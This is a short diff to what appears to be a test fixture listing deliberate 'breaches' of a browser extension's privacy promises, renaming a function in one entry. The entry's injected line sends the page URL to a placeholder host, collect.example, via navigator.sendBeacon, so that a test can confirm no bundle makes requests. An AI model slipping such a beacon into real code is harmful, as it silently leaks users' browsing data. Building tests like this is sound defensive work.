@@ -110,9 +110,9 @@ export const breaches = [
   {
     promise: "P1",
     file: "src/content/gate.ts",
-    was: "const watch = async (): Promise<void> => {",
+    was: "const announce = async (): Promise<void> => {",
     becomes:
-      'const watch = async (): Promise<void> => {\n  navigator.sendBeacon("https://collect.example/", location.href);',
+      'const announce = async (): Promise<void> => {\n  navigator.sendBeacon("https://collect.example/", location.href);',
     test: "repository/bundles",
     title: "no bundle contains requests",
   },
